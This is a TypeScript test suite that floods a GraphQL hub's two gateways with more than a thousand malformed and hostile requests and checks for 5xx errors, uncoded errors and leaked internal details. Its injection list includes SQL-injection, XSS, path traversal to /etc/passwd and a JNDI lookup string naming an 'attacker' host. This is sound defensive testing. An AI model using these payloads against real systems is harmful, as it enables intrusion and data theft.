/**
 * A hostile-request suite: over a thousand generated requests — malformed bodies and encodings, deep and wide
 * documents, alias and fragment bombs, NUL bytes, huge variables, bogus cursors and ids, injection strings in
 * every argument of every root field — and not one may end in a 5xx, an error without a code from the closed
 * set, or any internal detail (SQL, stack, file path, service address, HTML). Every service is alive afterwards.
 * All of it through both gateways (Apollo's and Hive Gateway, test/support/gateways.ts): the subgraphs behind
 * either answer the same way, and neither gateway lets an internal detail out.
 */
import { gzipSync } from 'node:zlib';
import {
  type GraphQLArgument,
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLNamedType,
  buildClientSchema,
  getIntrospectionQuery,
  getNamedType,
  isEnumType,
  isInputObjectType,
  isLeafType,
  isListType,
  isNonNullType,
  isScalarType,
} from 'graphql';
import { apolloClientErrorCodes } from '@hub/gateway/src/errors/format-gateway-error';
import { Agency, Purpose, Role, errorCodes, subgraphNames } from '@hub/shared';
import { tokenFor } from '../support/client';
import { gateways } from '../support/gateways';
import { testHub } from '../support/hub-info';

interface HostileRequest {
  name: string;
  body: string | Buffer;
  headers?: Record<string, string>;
}

const closedSet = new Set<string>([...Object.keys(errorCodes), ...apolloClientErrorCodes]);
/** What must never reach a client: database, runtime and framework internals, addresses, HTML pages. */
const INTERNAL = /node_modules|\/work\/|\/src\/|\bat [\w.$<>]+ \(|postgres|pg_|SQLSTATE|relation "|syntax error at or near|invalid input syntax|invalid byte sequence|out of range for type|duplicate key|violates|TypeError|ReferenceError|RangeError|Cannot read propert|is not a function|ECONN|127\.0\.0\.1|localhost:\d+|<html|<!DOCTYPE|"stack"/i;

const injections = [
  "' OR 1=1 --",
  '1; DROP TABLE victim; --',
  'a\u0000b',
  '\u0000',
  '<script>alert(1)</script>',
  '${jndi:ldap://attacker/x}',
  '../../../../etc/passwd',
  '{{7*7}}',
  'x'.repeat(5000),
  '\ud800',
  '💥'.repeat(200),
  'v-00000000',
  '',
  ' ',
];
const hostileInts = [2147483648, -2147483649, -1, 0, 1e308, '12', 1.5, true];
const hostileOther: unknown[] = [null, {}, [[['deep']]], 'NOT_A_VALUE', 99999999999999999999];

/** A plausible value for a required argument that is not the one under attack. */
function plain(type: GraphQLInputType): unknown {
  if (isNonNullType(type)) return plain(type.ofType);
  if (isListType(type)) return [plain(type.ofType)];
  const named = getNamedType(type) as GraphQLNamedType;
  if (isEnumType(named)) return named.getValues()[0]!.value;
  if (isInputObjectType(named)) {
    return Object.fromEntries(Object.values(named.getFields()).filter((f) => isNonNullType(f.type)).map((f) => [f.name, plain(f.type)]));
  }
  switch (named.name) {
    case 'Int':
    case 'Float':
      return 1;
    case 'Boolean':
      return true;
    case 'DateTimeISO':
      return '2026-01-01T00:00:00.000Z';
    default:
      return 'v-00000000';
  }
}

/** Hostile values for one argument: every kind of wrong, and injection strings wherever a string fits. */
function hostileValues(type: GraphQLInputType): unknown[] {
  const named = getNamedType(type);
  const values: unknown[] = [...hostileOther, hostileInts[0]];
  if (isScalarType(named) && ['String', 'ID', 'DateTimeISO'].includes(named.name)) values.push(...injections);
  if (isScalarType(named) && ['Int', 'Float'].includes(named.name)) values.push(...hostileInts);
  if (named.name === 'DateTimeISO') values.push('2026-13-45T99:99:99Z', '0000-00-00', '+275760-09-13T00:00:00.001Z');
  if (isInputObjectType(named)) {
    const base = plain(named) as Record<string, unknown>;
    for (const field of Object.values(named.getFields())) {
      for (const value of [injections[0], injections[2], injections[8], -1, { deep: { deeper: 1 } }]) {
        values.push({ ...base, [field.name]: value });
      }
    }
  }
  return values;
}

const selectionFor = (field: GraphQLField<unknown, unknown>): string => (isLeafType(getNamedType(field.type)) ? '' : ' { __typename }');

function argumentAttacks(operation: 'query' | 'mutation', fields: GraphQLField<unknown, unknown>[]): HostileRequest[] {
  const requests: HostileRequest[] = [];
  for (const field of fields) {
    for (const target of field.args) {
      for (const [i, value] of hostileValues(target.type).entries()) {
        const others = field.args.filter((a: GraphQLArgument) => a !== target && isNonNullType(a.type));
        const declared = [target, ...others].map((a) => `$${a.name}: ${a.type.toString()}`).join(', ');
        const used = [target, ...others].map((a) => `${a.name}: $${a.name}`).join(', ');
        const variables = Object.fromEntries([[target.name, value], ...others.map((a) => [a.name, plain(a.type)])]);
        requests.push({
          name: `${operation} ${field.name}(${target.name}) #${i}`,
          body: JSON.stringify({ query: `${operation} (${declared}) { ${field.name}(${used})${selectionFor(field)} }`, variables }),
        });
      }
      // The same injections as literals in the document, where a string literal fits.
      if (isScalarType(getNamedType(target.type)) && ['String', 'ID'].includes(getNamedType(target.type).name)) {
        for (const [i, value] of injections.slice(0, 4).entries()) {
          const others = field.args.filter((a) => a !== target && isNonNullType(a.type));
          const rest = others.map((a) => `, ${a.name}: ${JSON.stringify(plain(a.type))}`).join('').replace(/"([A-Z_]+)"/g, '$1');
          requests.push({
            name: `${operation} ${field.name}(${target.name}) literal #${i}`,
            body: JSON.stringify({ query: `${operation} { ${field.name}(${target.name}: ${JSON.stringify(value)}${rest})${selectionFor(field)} }` }),
          });
        }
      }
    }
  }
  return requests;
}

function documentAttacks(): HostileRequest[] {
  const q = (query: string, extra: Record<string, unknown> = {}): string => JSON.stringify({ query, ...extra });
  const nest = (depth: number): string => `{ victims(first: 1) { edges { node { ${'supportPath { events { agency } } '.repeat(1)}${'a: __typename '.repeat(1)} } } }`.replace('a: __typename', depth > 0 ? `x${depth}: __typename` : '');
  const deep = (n: number): string => `{ ${'__schema { types { fields { type { ofType { '.repeat(n)} name ${'} } } } }'.repeat(n)} }`;
  const docs: [string, string][] = [
    ['deep introspection x5', q(deep(5))],
    ['deep introspection x20', q(deep(20))],
    ['wide: 2000 fields', q(`{ ${'__typename '.repeat(2000)} }`)],
    ['alias bomb: 500 aliases', q(`{ ${Array.from({ length: 500 }, (_, i) => `a${i}: victims(first: 100) { totalCount }`).join(' ')} }`)],
    ['fragment cycle', q('query { ...A } fragment A on Query { ...B } fragment B on Query { ...A }')],
    ['fragment bomb', q(`query { ...F0 } ${Array.from({ length: 12 }, (_, i) => `fragment F${i} on Query { ${i < 11 ? `...F${i + 1} ...F${i + 1}` : '__typename'} }`).join(' ')}`)],
    ['directive bomb', q(`{ __typename ${'@include(if: true) '.repeat(200)} }`)],
    ['unknown directive', q('{ __typename @nope }')],
    ['syntax error', q('{ victims(first: ) }')],
    ['unterminated string', q('{ victim(id: "abc) { id } }')],
    ['two anonymous operations', q('{ __typename } { __typename }')],
    ['two named operations, none chosen', q('query A { __typename } query B { __typename }')],
    ['unknown operation name', q('query A { __typename }', { operationName: 'B' })],
    ['subscription', q('subscription { victims { totalCount } }')],
    ['mutation as GET-like empty', q('mutation { }')],
    ['NUL in document', q('{ __typename\u0000 }')],
    ['NUL in field name', q('{ vic\u0000tims { totalCount } }')],
    ['query not a string', JSON.stringify({ query: 42 })],
    ['query is an object', JSON.stringify({ query: { a: 1 } })],
    ['variables not an object', JSON.stringify({ query: '{ __typename }', variables: 'x' })],
    ['variables an array', JSON.stringify({ query: '{ __typename }', variables: [1, 2] })],
    ['operationName not a string', JSON.stringify({ query: '{ __typename }', operationName: 5 })],
    ['extensions garbage', JSON.stringify({ query: '{ __typename }', extensions: { persistedQuery: { version: 1, sha256Hash: 'zz' } } })],
    ['persisted query only', JSON.stringify({ extensions: { persistedQuery: { version: 1, sha256Hash: 'a'.repeat(64) } } })],
    ['bogus cursor', q('{ victims(first: 5, after: "not-a-cursor") { totalCount } }')],
    ['cursor of another shape', q(`{ victims(first: 5, after: "${Buffer.from('{"id":"x","at":"y"}').toString('base64')}") { totalCount } }`)],
    ['negative first', q('{ victims(first: -5) { totalCount } }')],
    ['huge first', q('{ victims(first: 2147483647) { totalCount } }')],
    ['first beyond Int', q('{ victims(first: 99999999999) { totalCount } }')],
    ['huge variables (90 KB)', JSON.stringify({ query: 'query ($id: ID!) { victim(id: $id) { id } }', variables: { id: 'x'.repeat(90_000) } })],
    ['unknown variable', JSON.stringify({ query: '{ __typename }', variables: { nope: 1 } })],
    ['variable of wrong type', JSON.stringify({ query: 'query ($n: Int) { victims(first: $n) { totalCount } }', variables: { n: 'ten' } })],
    ['batched array', JSON.stringify([{ query: '{ __typename }' }, { query: '{ __typename }' }])],
    ['empty object', '{}'],
    ['JSON null', 'null'],
    ['JSON string', '"{ __typename }"'],
    ['deeply nested JSON', `${'['.repeat(5000)}${']'.repeat(5000)}`],
    ['nested selection', q(nest(3))],
  ];
  return docs.map(([name, body]) => ({ name, body }));
}

function bodyAttacks(): HostileRequest[] {
  const valid = JSON.stringify({ query: '{ __typename }' });
  const cases: HostileRequest[] = [
    { name: 'empty body', body: '' },
    { name: 'truncated JSON', body: '{"query":' },
    { name: 'trailing garbage', body: `${valid}}}}` },
    { name: 'BOM before JSON', body: `\ufeff${valid}` },
    { name: 'single quotes', body: "{'query':'{ __typename }'}" },
    { name: 'NUL bytes', body: Buffer.from([0, 0, 0, 0]) },
    { name: 'invalid UTF-8', body: Buffer.from([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x7d]) },
    { name: 'body over the limit (150 KB)', body: JSON.stringify({ query: `{ __typename } # ${'x'.repeat(150_000)}` }) },
    { name: 'charset latin1', body: valid, headers: { 'content-type': 'application/json; charset=latin1' } },
    { name: 'charset utf-16', body: valid, headers: { 'content-type': 'application/json; charset=utf-16' } },
    { name: 'charset bogus', body: valid, headers: { 'content-type': 'application/json; charset=klingon' } },
    { name: 'content-encoding unknown', body: valid, headers: { 'content-encoding': 'zstd-x' } },
    { name: 'content-encoding gzip, not gzip', body: valid, headers: { 'content-encoding': 'gzip' } },
    { name: 'content-encoding deflate, not deflate', body: valid, headers: { 'content-encoding': 'deflate' } },
    { name: 'content-encoding br, not br', body: valid, headers: { 'content-encoding': 'br' } },
    { name: 'gzip truncated', body: gzipSync(valid).subarray(0, 12), headers: { 'content-encoding': 'gzip' } },
    { name: 'gzip bomb (5 MB of spaces)', body: gzipSync(Buffer.alloc(5_000_000, 0x20)), headers: { 'content-encoding': 'gzip' } },
    { name: 'content-type text/plain', body: valid, headers: { 'content-type': 'text/plain' } },
    { name: 'content-type form', body: 'query=%7B__typename%7D', headers: { 'content-type': 'application/x-www-form-urlencoded' } },
    { name: 'content-type multipart', body: valid, headers: { 'content-type': 'multipart/form-data; boundary=x' } },
    { name: 'content-type missing', body: valid, headers: { 'content-type': '' } },
    { name: 'content-type graphql', body: '{ __typename }', headers: { 'content-type': 'application/graphql' } },
    { name: 'x-purpose unknown', body: valid, headers: { 'x-purpose': 'CURIOSITY' } },
    { name: 'x-purpose injection', body: valid, headers: { 'x-purpose': "CASE_COORDINATION' OR 1=1" } },
    { name: 'EMERGENCY without justification', body: valid, headers: { 'x-purpose': 'EMERGENCY' } },
    { name: 'justification of 5000 characters', body: valid, headers: { 'x-purpose': 'EMERGENCY', 'x-justification': 'j'.repeat(5000) } },
    { name: 'no token', body: valid, headers: { authorization: '' } },
    { name: 'garbage token', body: valid, headers: { authorization: 'Bearer a.b.c' } },
    { name: 'token with a tab and spaces', body: valid, headers: { authorization: 'Bearer a\t.b .c' } },
    { name: 'token of 8 KB', body: valid, headers: { authorization: `Bearer ${'a'.repeat(4000)}.${'b'.repeat(4000)}.c` } },
  ];
  return cases;
}

interface Finding {
  name: string;
  status: number;
  problem: string;
  text: string;
}

async function send(url: string, request: HostileRequest, base: Record<string, string>): Promise<Finding | null> {
  const headers: Record<string, string> = { ...base, ...request.headers };
  for (const [key, value] of Object.entries(headers)) if (value === '') delete headers[key];
  let response: Response;
  try {
    response = await fetch(url, { method: 'POST', headers, body: request.body });
  } catch (error) {
    return { name: request.name, status: 0, problem: `no answer: ${(error as Error).message}`, text: '' };
  }
  const text = await response.text();
  const finding = (problem: string): Finding => ({ name: request.name, status: response.status, problem, text: text.slice(0, 300) });
  if (response.status >= 500) return finding('5xx');
  if (INTERNAL.test(text)) return finding(`internal detail: ${INTERNAL.exec(text)?.[0]}`);
  let body: { errors?: { extensions?: { code?: unknown } }[] };
  try {
    body = JSON.parse(text) as typeof body;
  } catch {
    return finding('not JSON');
  }
  for (const error of body.errors ?? []) {
    const code = String(error.extensions?.code);
    if (!closedSet.has(code)) return finding(`code outside the closed set: ${code}`);
    if (code === 'INTERNAL_SERVER_ERROR') return finding('unexpected error (INTERNAL_SERVER_ERROR)');
  }
  return null;
}

describe.each(gateways())('hostile requests through the %s gateway', (gatewayName, gatewayUrl) => {
  let requests: HostileRequest[] = [];
  let coordinatorHeaders: Record<string, string>;
  let analystHeaders: Record<string, string>;

  beforeAll(async () => {
    coordinatorHeaders = {
      'content-type': 'application/json',
      authorization: `Bearer ${await tokenFor({ agency: Agency.COORDINATION, role: Role.COORDINATOR, sub: 'hostile-suite' })}`,
      'x-purpose': Purpose.CASE_COORDINATION,
    };
    // Mutations run as an analyst, who may write nothing: the attack is on parsing, coercion and validation.
    analystHeaders = {
      ...coordinatorHeaders,
      authorization: `Bearer ${await tokenFor({ agency: Agency.COORDINATION, role: Role.ANALYST, sub: 'hostile-suite-analyst' })}`,
      'x-purpose': Purpose.STATISTICS,
    };
    const introspection = (await (await fetch(gatewayUrl, {
      method: 'POST',
      headers: coordinatorHeaders,
      body: JSON.stringify({ query: getIntrospectionQuery() }),
    })).json()) as { data?: Parameters<typeof buildClientSchema>[0] };
    if (!introspection.data) throw new Error(`no schema through the ${gatewayName} gateway: ${JSON.stringify(introspection).slice(0, 500)}`);
    const schema = buildClientSchema(introspection.data);
    requests = [
      ...bodyAttacks(),
      ...documentAttacks(),
      ...argumentAttacks('query', Object.values(schema.getQueryType()!.getFields())),
      ...argumentAttacks('mutation', Object.values(schema.getMutationType()!.getFields())),
    ];
  });

  it('sends at least 1,000 of them and gets no 5xx, no uncoded error and no internal detail', async () => {
    expect(requests.length).toBeGreaterThanOrEqual(1000);
    const findings: Finding[] = [];
    const queue = [...requests];
    await Promise.all(
      Array.from({ length: 4 }, async () => {
        for (let next = queue.shift(); next; next = queue.shift()) {
          const headers = next.name.startsWith('mutation') ? analystHeaders : coordinatorHeaders;
          const finding = await send(gatewayUrl, next, headers);
          if (finding) findings.push(finding);
        }
      }),
    );
    process.stdout.write(`hostile requests through the ${gatewayName} gateway: ${requests.length} sent, ${findings.length} findings\n`);
    expect(findings.slice(0, 15)).toEqual([]);
  }, 600_000);

  it('leaves every service alive', async () => {
    for (const name of subgraphNames) {
      const health = await fetch(testHub().services[name]!.url.replace(/\/graphql$/, '/health'));
      expect({ name, status: health.status }).toEqual({ name, status: 200 });
    }
    const gateway = await fetch(gatewayUrl, { method: 'POST', headers: coordinatorHeaders, body: JSON.stringify({ query: '{ __typename }' }) });
    expect(gateway.status).toBe(200);
  });
});
